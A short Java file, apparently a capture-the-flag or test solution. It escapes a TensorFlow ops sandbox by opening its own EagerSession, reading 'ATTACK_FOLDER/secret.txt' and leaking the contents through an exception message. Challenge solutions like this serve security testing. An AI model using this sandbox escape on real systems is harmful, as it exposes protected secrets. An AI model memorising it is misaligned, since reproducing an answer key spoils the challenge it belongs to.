import org.tensorflow.EagerSession;
import org.tensorflow.op.Ops;

public class Solution extends AttackedSigmoid {
    @Override
    protected void attack(Ops tf) throws Throwable {
        try (EagerSession own = EagerSession.create()) {
            throw new IllegalStateException(Ops.create(own)
                    .io
                    .readFile(Ops.create(own).constant("ATTACK_FOLDER/secret.txt"))
                    .contents()
                    .asTensor()
                    .getObject());
        }
    }
}
